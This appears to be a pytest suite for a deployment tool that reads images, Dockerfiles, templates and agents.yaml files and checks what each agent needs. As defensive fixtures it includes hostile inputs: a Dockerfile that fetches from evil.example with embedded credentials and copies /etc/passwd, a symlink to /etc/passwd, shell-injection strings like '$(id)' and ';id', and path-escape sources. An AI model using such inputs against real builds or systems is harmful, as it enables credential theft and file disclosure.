# SPDX-License-Identifier: Apache-2.0
"""From a Dockerfile, an image, a template or an agents file to what an agent needs, with the evidence for it."""

from __future__ import annotations

import filecmp
from pathlib import Path

import pytest

from fetching import commit
from homeport.analyze import analyze
from homeport.drivers.fetchers.agents import AgentsFetcher
from homeport.drivers.fetchers.agents import Options as AgentsOptions
from homeport.drivers.fetchers.dockerfile import DockerfileFetcher
from homeport.drivers.fetchers.folder import FolderFetcher
from homeport.drivers.fetchers.git import GitFetcher
from homeport.drivers.fetchers.git import Options as GitOptions
from homeport.drivers.fetchers.image import ImageFetcher
from homeport.drivers.fetchers.image import Options as ImageOptions
from homeport.drivers.fetchers.template import TemplateFetcher
from homeport.drivers.fetchers.template.fetcher import SHIPPED
from homeport.errors import InvalidSource, NotFound, StalePlan, Unavailable
from homeport.interfaces.images import ImageFacts
from homeport.model.evidence import Origin
from homeport.model.requirements import Ecosystem
from homeport.model.source import SourceKind

ROOT = Path(__file__).parents[3]
ID = "sha256:" + "ab" * 32
HEAD = "apiVersion: v1\nkind: AgentDeployment\nspec:\n  agents:\n"
FACTS = ImageFacts(
    id=ID, reference="team/web:1", entrypoint=("/bin/web",), command=("--serve", "a && b"), ports=(8000, 9000),
    env={"TOKEN": "hunter2"}, user="", labels={"secret": "hunter2"},
    health=("CMD-SHELL", "curl -f http://localhost:8000/livez || exit 1"),
)  # fmt: skip


class Shelf:
    """Images of an engine: those in `here`, and with `pull` those in `away` too."""

    def __init__(self, here=(), away=()):
        self.here = {facts.reference: facts for facts in here}
        self.away = {facts.reference: facts for facts in away}

    async def look(self, reference, *, pull=False, said=None):
        if pull and reference in self.away:
            self.here[reference] = self.away[reference]
        for facts in self.here.values():
            if reference in (facts.reference, facts.id):
                return facts
        raise NotFound(f"there is no image {reference}", hint="pull it")


def fetchers(tmp_path, images=None, *, pull=False, **options):
    folder = FolderFetcher()
    inner = {
        "folder": folder,
        "git": GitFetcher(GitOptions(cache=tmp_path / "cache")),
        "dockerfile": DockerfileFetcher(folder),
        "image": ImageFetcher(ImageOptions(pull=pull), images=images),
    }
    return {
        **inner,
        "template": TemplateFetcher(inner=inner),
        "agents": AgentsFetcher(AgentsOptions(**options), inner=inner),
    }


async def needs(fetcher, locator, **more):
    view = await fetcher.fetch(locator, **more)
    try:
        return view.source, analyze(view)
    finally:
        view.close()


# ── images ───────────────────────────────────────────────────────────────────────────────────────────────────────────
async def test_an_image_says_its_command_port_and_health_with_lines(tmp_path):
    source, found = await needs(fetchers(tmp_path, Shelf([FACTS]))["image"], "image:team/web:1")
    assert (source.kind, source.locator, source.digest) == (SourceKind.IMAGE, "team/web:1", ID)
    assert found.ecosystem.value is Ecosystem.IMAGE and found.image.value == "team/web:1" and found.dockerfile is None
    assert found.start.value == ("/bin/web", "--serve", "a && b") and found.start.origin is Origin.CONTAINER
    assert found.port.value == 8000 and found.health_path.value == "/livez" and found.name.value == "web"
    assert all(one.evidence[0].file == "image.json" and one.evidence[0].line for one in (found.start, found.port))
    assert any("8000, 9000" in warning for warning in found.warnings)


async def test_secrets_in_an_image_are_not_in_the_view(tmp_path):
    view = await fetchers(tmp_path, Shelf([FACTS]))["image"].fetch("image:team/web:1")
    assert b"hunter2" not in view.read("image.json")


async def test_an_image_without_a_command_is_said_to_have_none(tmp_path):
    bare = ImageFacts(id=ID, reference="bare")
    _, found = await needs(fetchers(tmp_path, Shelf([bare]))["image"], "image:bare")
    assert found.start is None and found.port is None and found.health_path is None
    assert any("--start" in warning for warning in found.warnings)


async def test_an_image_that_is_elsewhere_is_only_fetched_with_consent(tmp_path):
    shelf = Shelf(away=[FACTS])
    with pytest.raises(InvalidSource, match="would be fetched from the engine's default registry") as refused:
        await fetchers(tmp_path, shelf)["image"].fetch("image:team/web:1")
    assert "homeport up" in refused.value.hint and not shelf.here
    view = await fetchers(tmp_path, shelf, pull=True)["image"].fetch("image:team/web:1")
    assert view.source.digest == ID
    with pytest.raises(InvalidSource, match="no image"):
        await fetchers(tmp_path, shelf, pull=True)["image"].fetch("image:nothing")


async def test_without_an_engine_it_is_said_what_to_start(tmp_path):
    with pytest.raises(Unavailable) as away:
        await fetchers(tmp_path)["image"].fetch("image:x")
    assert "Docker or Podman" in away.value.hint


async def test_an_image_that_moved_makes_the_plan_stale_and_one_that_left_is_fetched_again(tmp_path):
    shelf = Shelf([FACTS], away=[FACTS])
    image = fetchers(tmp_path, shelf, pull=True)["image"]
    view = await image.fetch("image:team/web:1")
    shelf.here.clear()
    await image.export(view.source, tmp_path / "out" / "a")
    assert list((tmp_path / "out").iterdir()) == [tmp_path / "out" / "a"] and not list((tmp_path / "out/a").iterdir())
    shelf.here = shelf.away = {"team/web:1": ImageFacts(id="sha256:" + "cd" * 32, reference="team/web:1")}
    with pytest.raises(StalePlan):
        await image.export(view.source, tmp_path / "out" / "b")
    assert not (tmp_path / "out" / "b").exists()


async def test_a_hostile_image_ends_in_plain_text(tmp_path):
    words = ("\x1b]0;x\x07", "$(id)", "x" * 100_000, "\ud800")
    facts = ImageFacts(
        id=ID, reference="bad", command=words * 500, entrypoint=words, health=words, user="\x1b[2J" * 500,
        ports=tuple(range(1, 5000)), env={"PORT": "99999999999"},
    )  # fmt: skip
    _, found = await needs(fetchers(tmp_path, Shelf([facts]))["image"], "image:bad")
    assert found.start is None and found.port.value == 1
    assert all(text.isprintable() for text in found.warnings)


async def test_a_file_called_like_an_images_facts_means_nothing_elsewhere(tmp_path):
    (tmp_path / "image.json").write_text('{"entrypoint": ["/bin/evil"], "ports": [1]}')
    _, found = await needs(FolderFetcher(), str(tmp_path))
    assert found.start is None and found.image is None and found.port is None


# ── Dockerfiles ──────────────────────────────────────────────────────────────────────────────────────────────────────
async def test_a_named_dockerfile_is_built_in_its_folder(tmp_path):
    (tmp_path / "a" / "main.py").parent.mkdir()
    (tmp_path / "a" / "main.py").write_text("1")
    (tmp_path / "a" / "Dockerfile").write_text("FROM other\nEXPOSE 1\n")
    (tmp_path / "a" / "Dockerfile.gpu").write_text(
        "FROM python:3.12\nWORKDIR /app\nUSER 1000\nEXPOSE 9000\nENV PORT=9000\nCMD python main.py && true\n"
    )
    source, found = await needs(DockerfileFetcher(FolderFetcher()), str(tmp_path / "a" / "Dockerfile.gpu"))
    assert (source.kind, source.locator, source.ref) == (SourceKind.DOCKERFILE, str(tmp_path / "a"), "Dockerfile.gpu")
    assert found.dockerfile.value == "Dockerfile.gpu" and found.dockerfile.evidence[0].line == 1
    assert found.port.value == 9000 and found.name.value == "a" and found.image is None
    await DockerfileFetcher(FolderFetcher()).export(source, tmp_path / "out")
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == ["Dockerfile", "Dockerfile.gpu", "main.py"]


@pytest.mark.parametrize(
    ("files", "built"),
    [
        ({"Dockerfile": "FROM debian\nCMD a | b\n"}, True),
        ({"Dockerfile": "FROM debian\n"}, True),
        ({"Dockerfile": "FROM debian\nCMD [\"./run\"]\n"}, True),
        ({"Dockerfile": "FROM python:3\nCMD python main.py\n", "main.py": "1"}, True),
        ({"Dockerfile": "FROM python:3\nCMD python main.py\n", "homeport.yaml": "start: python main.py\n"}, False),
        ({"Dockerfile": "FROM python:3\nCMD a | b\n", "Procfile": "web: python main.py\n"}, False),
        ({"Dockerfile": ""}, False),
    ],
)  # fmt: skip
async def test_a_dockerfile_is_built_where_it_is_what_says_how_it_starts(tmp_path, files, built):
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    _, found = await needs(FolderFetcher(), str(tmp_path))
    assert (found.dockerfile is not None) is built


async def test_a_dockerfile_that_is_a_link_is_not_read(tmp_path):
    (tmp_path / "Dockerfile").symlink_to("/etc/passwd")
    with pytest.raises(InvalidSource, match="no Dockerfile"):
        await DockerfileFetcher(FolderFetcher()).fetch(str(tmp_path / "Dockerfile"))


async def test_what_a_build_would_fetch_is_said(tmp_path):
    (tmp_path / "Dockerfile").write_text(
        "# syntax=evil.example/frontend:1\nFROM a AS x\nADD https://user:pass@evil.example/x /x\nFROM b\nCMD c && d\n"
        'ONBUILD RUN evil\nCOPY ../../etc/passwd /p\nRUN <<A <<B\nCMD ["fake"]\nA\nCMD ["fake"]\nB\n'
    )
    _, found = await needs(FolderFetcher(), str(tmp_path))
    told = "\n".join(found.warnings)
    assert "Dockerfile:1" in told and "evil.example/frontend:1" in told and "Dockerfile:3" in told
    assert "pass@" not in told
    assert found.start is None, "a command within a here-document is none"


# ── templates ────────────────────────────────────────────────────────────────────────────────────────────────────────
async def test_every_template_that_ships_is_whole_and_can_be_planned(tmp_path):
    kinds = fetchers(tmp_path)
    shipped = kinds["template"].templates()
    assert {"notes-agent", "echo-http"} <= {one.name for one in shipped}
    for one in shipped:
        source, found = await needs(kinds["template"], f"template:{one.name}")
        assert source.kind is SourceKind.TEMPLATE and found.start and found.port and found.health_path
        assert found.name.value == one.name and one.description and one.version


def test_the_notes_agent_that_ships_is_the_example():
    compared = filecmp.dircmp(ROOT / "examples/notes-agent", SHIPPED / "notes-agent/files", ignore=["__pycache__"])
    assert not (compared.left_only or compared.right_only or compared.diff_files or compared.funny_files)


async def test_parameters_are_checked_and_reach_the_environment(tmp_path):
    template = fetchers(tmp_path)["template"]
    source, found = await needs(template, "template:echo-http?log=off&greeting=good%20day%20%24%7Blog%7D")
    assert found.env_values["ECHO_GREETING"] == "good day ${log}" and found.env_values["ECHO_LOG"] == "off"
    assert source.ref == "greeting=good+day+%24%7Blog%7D&log=off"
    await template.export(source, tmp_path / "out")
    assert (tmp_path / "out" / "main.py").is_file()
    for wrong, why in (("log=loud", "one of: on, off"), ("slow_ms=1;id", "a number"), ("nope=1", "there are: greeting"),
                       ("greeting=" + "x" * 500, "at most 400")):  # fmt: skip
        with pytest.raises(InvalidSource, match=why):
            await template.fetch(f"template:echo-http?{wrong}")


async def test_an_unknown_template_names_those_that_there_are(tmp_path):
    with pytest.raises(InvalidSource) as refused:
        await fetchers(tmp_path)["template"].fetch("template:nope")
    assert "echo-http" in refused.value.hint and "notes-agent" in refused.value.hint


# ── agents files ─────────────────────────────────────────────────────────────────────────────────────────────────────
def written(tmp_path, text):
    path = tmp_path / "home" / "agents.yaml"
    path.parent.mkdir(exist_ok=True)
    path.write_text(HEAD + text)
    return str(path)


async def test_an_agent_is_its_source_and_what_the_file_says_wins(tmp_path):
    locator = written(tmp_path, "    - name: web\n      source: code\n      port: 7000\n      env: {MODE: '${M}'}\n"
                      "      resources: {cpu: 2}\n      secrets: [KEY]\n      autoRestart: false\n"
                      "      dependencies: [db]\n")  # fmt: skip
    (tmp_path / "home" / "code").mkdir()
    (tmp_path / "home" / "code" / "homeport.yaml").write_text("start: python main.py\nport: 1\nname: other\n")
    kinds = fetchers(tmp_path, values={"M": "fast"})
    source, found = await needs(kinds["agents"], locator)
    assert (source.kind, source.locator) == (SourceKind.FOLDER, str(tmp_path / "home" / "code"))
    assert found.port.value == 7000
    assert (found.port.evidence[0].file, found.port.evidence[0].line) == ("agents.yaml", 7)
    assert "homeport.yaml:2" in found.port.note and found.start.value == ("python", "main.py")
    assert found.name.value == "web" and found.env_values == {"MODE": "fast"} and found.secrets == ("KEY",)
    assert found.cpus.value == 2.0 and found.restart.value.enabled is False
    assert any("depends on db" in warning for warning in found.warnings)
    await kinds[source.kind].export(source, tmp_path / "out")
    assert (tmp_path / "out" / "homeport.yaml").is_file()


async def test_an_agent_is_made_of_an_image_a_dockerfile_or_a_repository(tmp_path):
    home = tmp_path / "home"
    locator = written(tmp_path, "    - {name: i, image: 'team/web:${V:-1}'}\n"
                      "    - {name: d, dockerfile: sub/Dockerfile}\n"
                      "    - {name: b, build: {context: sub, dockerfile: docker/Dockerfile.gpu}}\n"
                      "    - {name: s, build: sub}\n    - {name: g, source: repo, ref: main}\n")  # fmt: skip
    (home / "sub" / "docker").mkdir(parents=True)
    for name in ("Dockerfile", "docker/Dockerfile.gpu"):
        (home / "sub" / name).write_text("FROM x\n")
    commit(home / "repo", {"a": b"1"})
    agents = fetchers(tmp_path, Shelf([FACTS]))["agents"]
    seen = {}
    for name in "idbsg":
        source, found = await needs(agents, f"{locator}#{name}")
        seen[name] = (str(source.kind), source.ref, found.dockerfile.value if found.dockerfile else "")
    assert seen == {
        "i": ("image", "", ""), "d": ("dockerfile", "Dockerfile", "Dockerfile"),
        "b": ("dockerfile", "docker/Dockerfile.gpu", "docker/Dockerfile.gpu"),
        "s": ("dockerfile", "Dockerfile", "Dockerfile"), "g": ("git", "main", ""),
    }  # fmt: skip


async def test_several_agents_without_a_choice_are_listed(tmp_path):
    locator = written(tmp_path, "    - {name: one, image: x}\n    - {name: two, image: y}\n")
    agents = fetchers(tmp_path, Shelf())["agents"]
    with pytest.raises(InvalidSource, match="2 agents") as refused:
        await agents.fetch(locator)
    assert "one, two" in refused.value.hint
    for more in ({"locator": f"{locator}#three"}, {"locator": locator, "ref": "three"}):
        with pytest.raises(InvalidSource, match="no agent 'three'"):
            await agents.fetch(**more)
    with pytest.raises(InvalidSource, match="two agents are named"):
        await agents.fetch(f"{locator}#one", ref="two")


@pytest.mark.parametrize(
    ("place", "why"),
    [
        ("source: ..", "leads out"), ("source: /etc", "leads out"), ("source: link", "leads out"),
        ("source: link/..", "leads out"), ("dockerfile: ../Dockerfile", "leads out"), ("build: /", "leads out"),
        ("source: ~/x", "expected a path"), ("source: -x", "expected a path"), ("source: ext::sh", "expected a path"),
        ("source: ssh://h/r", "private keys"), ("source: 'http://h/r'", "plain http"),
        ("source: file:///etc", "by its path"),
        ("source: https://u:p4ss@h/r", "secrets do not"), ("source: gone", "there is no gone"),
        ("source: f", "no folder"),
        ("image: -x", "dash"), ("image: 'A'", "lower-case"), ("image: x\n      ref: y", "only a 'source'"),
        ("build: {context: ., dockerfile: ../x}", "no Dockerfile"), ("source: \"a\\0b\"", "zero byte"),
    ],
)  # fmt: skip
async def test_what_an_agent_is_made_of_stays_beside_its_file(tmp_path, place, why):
    locator = written(tmp_path, f"    - name: web\n      {place}\n")
    (tmp_path / "home" / "link").symlink_to("/etc")
    (tmp_path / "home" / "f").write_text("1")
    with pytest.raises(InvalidSource) as refused:
        await fetchers(tmp_path, Shelf())["agents"].fetch(locator)
    assert why in refused.value.message and refused.value.hint and "p4ss" not in str(refused.value.to_dict())
    if "Dockerfile" not in why:
        assert "agents.yaml:6: spec.agents[0]" in refused.value.message


async def test_a_path_may_lead_out_with_consent(tmp_path):
    locator = written(tmp_path, "    - {name: web, source: ../code}\n")
    (tmp_path / "code").mkdir()
    source, _ = await needs(fetchers(tmp_path, outside=True)["agents"], locator)
    assert source.locator == str(tmp_path / "code")


async def test_agents_files_that_are_none_are_refused(tmp_path):
    import os

    agents = fetchers(tmp_path)["agents"]
    (tmp_path / "latin.yaml").write_bytes(b"a: \xff")
    (tmp_path / "huge.yaml").write_bytes(b"#" * 3_000_000)
    os.mkfifo(tmp_path / "pipe.yaml")
    for name, why in (("latin", "not UTF-8"), ("huge", "larger"), ("pipe", "no plain file"), ("gone", "cannot read")):
        with pytest.raises(InvalidSource, match=why):
            await agents.fetch(str(tmp_path / f"{name}.yaml"))
    assert not agents.handles(str(tmp_path / "pipe.yaml"))


async def test_a_manifest_taken_for_an_agents_file_says_to_give_its_folder(tmp_path):
    (tmp_path / "homeport.yaml").write_text("start: python main.py\n")
    with pytest.raises(InvalidSource, match=r"homeport\.yaml:1: start: unknown key") as refused:
        await fetchers(tmp_path)["agents"].fetch(str(tmp_path / "homeport.yaml"))
    assert "give that folder" in refused.value.hint
